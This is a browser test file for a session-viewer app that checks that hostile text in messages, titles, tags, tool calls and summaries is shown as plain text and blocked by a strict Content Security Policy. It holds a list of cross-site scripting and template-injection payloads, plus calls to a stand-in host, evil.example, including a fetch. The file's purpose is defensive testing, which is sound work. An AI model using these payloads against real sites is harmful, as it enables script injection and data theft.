import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { compactSession, createSession, PRESETS } from '../../src/index.ts';
import { emptySummary } from '../../src/record/index.ts';
import { assistant, toolCall, toolResult, user } from '../../src/testing/index.ts';
import { hasBrowser, openStage, type Stage, type Window } from './stage.ts';

/** Each of them sets `window.robbed` if it is ever run. */
const ATTACKS = [
  '<img src=x onerror="window.robbed=1">',
  '<script>window.robbed=1</script>',
  '"><svg onload=window.robbed=1>',
  '</textarea></title></style><script>window.robbed=1</script>',
  '[press here](javascript:window.robbed=1)',
  '[press here](java\u0000script:window.robbed=1)',
  '<a href="javascript:window.robbed=1">press here</a>',
  '![x](javascript:window.robbed=1)',
  '<iframe srcdoc="<script>parent.robbed=1</script>"></iframe>',
  '`</code><script>window.robbed=1</script>`',
  '```html"><script>window.robbed=1</script>\n<script>window.robbed=1</script>\n```',
  '| <script>window.robbed=1</script> | b |\n|---|---|\n| <img src=x onerror=window.robbed=1> | 2 |',
  '<base href="https://evil.example/"><form action=https://evil.example><button>ok',
  '<style>@import "https://evil.example/x.css";</style>',
  '[to the web](https://example.com/?q=<script>window.robbed=1</script>)',
  '{{constructor.constructor("window.robbed=1")()}}',
  '\u202e\u0007\u001b[31m&lt;script&gt;window.robbed=1&lt;/script&gt;',
];
const ALL = ATTACKS.join('\n\n');
const SHORT = '<img src=x onerror="window.robbed=1">';

describe.skipIf(!hasBrowser)('what strangers wrote', () => {
  let stage: Stage;
  let window: Window;
  beforeAll(async () => {
    stage = await openStage();
    const line = { text: ALL, from: [] };
    const summariser = {
      name: SHORT,
      summarise: async () => ({
        summary: {
          ...emptySummary(ALL),
          decisions: [line],
          pending: [line],
          files: [{ path: SHORT, operations: [SHORT] }],
        },
        by: { kind: 'model' as const, model: SHORT },
      }),
    };
    await using session = await createSession(stage.store, {
      id: 'hostile',
      title: SHORT,
      tags: [SHORT, '"><script>window.robbed=1</script>'],
      project: SHORT,
      agent: SHORT,
    });
    const turn = () => [
      user(ALL),
      toolCall(SHORT, { command: ALL, [SHORT]: SHORT }, { id: SHORT }),
      toolResult(SHORT, ALL, { id: SHORT, failed: true }),
      assistant(ALL, { model: SHORT, reasoning: ALL }),
    ];
    for (let round = 0; round < 4; round++) await session.append(turn());
    await compactSession(session, { settings: { ...PRESETS.balanced, keep: { messages: 4 } }, summariser });
    window = await stage.open('hostile');
    await window.page.locator('.row[data-kind="message"]').first().waitFor();
  });
  afterAll(() => stage?.[Symbol.asyncDispose]());

  const robbed = () => window.page.evaluate('window.robbed');
  const foreign = () =>
    window.page.evaluate(`[...document.querySelectorAll('img, script, iframe, object, embed, base, style, form[action]')]
      .filter((each) => !(each.src ?? '').startsWith(location.origin) || each.matches('iframe, object, embed, base, form[action]')).length`);

  it('is shown as text, in messages, titles, tags, projects, tools, summaries and checkpoints', async () => {
    const { page } = window;
    expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe(SHORT);
    await page.evaluate(`document.querySelector('.timeline').scrollTo(0, 0)`);
    await page.locator('.card').getByRole('button', { name: 'Show the whole summary' }).click();
    await page.locator('.card [aria-expanded]').click();
    await page.locator('.row[data-depth="1"]').first().waitFor();
    for (const fold of await page.locator('.tool-line, .fold summary').all()) await fold.click();
    await page.getByRole('tab', { name: 'Checkpoint' }).click();
    await page.getByRole('button', { name: 'What changed' }).click();
    await page.getByRole('tab', { name: 'Lineage' }).click();
    await page.getByRole('button', { name: 'Title and tags' }).click();
    await page.keyboard.press('Escape');
    expect(await robbed()).toBeUndefined();
    expect(await foreign()).toBe(0);
  });

  it('is shown as text among search hits', async () => {
    const { page } = window;
    await page.getByLabel('Search everything that was said').fill('script onerror');
    await page.getByText(/\d+ hits?|Nothing was found/).waitFor();
    expect(await robbed()).toBeUndefined();
    expect(await foreign()).toBe(0);
  });

  it('leads nowhere but to the web', async () => {
    const links = await window.page.evaluate(
      `[...document.querySelectorAll('.timeline a')].map((link) => [link.protocol, link.rel, link.target])`,
    );
    expect(links).not.toEqual([]);
    for (const [protocol, rel, target] of links as string[][]) {
      expect(protocol).toMatch(/^https?:|^mailto:/);
      expect(rel).toContain('noopener');
      expect(target).toBe('_blank');
    }
  });

  it('would not run even if it were part of the page: the policy of the server forbids it', async () => {
    const { page } = window;
    const policy = (await page.request.get(stage.server.url)).headers()['content-security-policy']!;
    expect(policy).toContain("default-src 'none'");
    expect(policy).not.toContain('unsafe');
    await page.evaluate(`{
      const script = document.createElement('script');
      script.textContent = 'window.robbed = 2';
      document.body.append(script);
      document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.robbed=3"><p style="color:red" id="styled">x</p>');
    }`);
    const sent = await page.evaluate(`fetch('https://evil.example/').then(() => 'sent', () => 'blocked')`);
    expect(await robbed()).toBeUndefined();
    expect(sent).toBe('blocked');
    expect(window.complaints.join('\n')).toContain('Content Security Policy');
  });

  it('is kept out of frames and other origins', async () => {
    const headers = (await window.page.request.get(stage.server.url)).headers();
    expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
    expect(headers['x-content-type-options']).toBe('nosniff');
  });
});
